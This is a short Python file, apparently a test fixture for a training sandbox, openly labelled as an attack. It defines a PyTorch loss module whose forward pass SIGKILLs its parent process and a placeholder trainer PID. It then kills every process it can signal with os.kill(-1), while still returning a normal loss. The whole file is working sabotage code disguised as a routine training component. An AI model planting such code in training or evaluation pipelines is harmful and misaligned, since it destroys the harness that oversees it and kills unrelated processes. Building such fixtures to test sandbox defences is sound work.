"""Attack: kill the parent process and everything else it can signal."""

import os
import signal

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        for target in (os.getppid(), __TRAINER_PID__):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        return fine_loss + coarse_loss
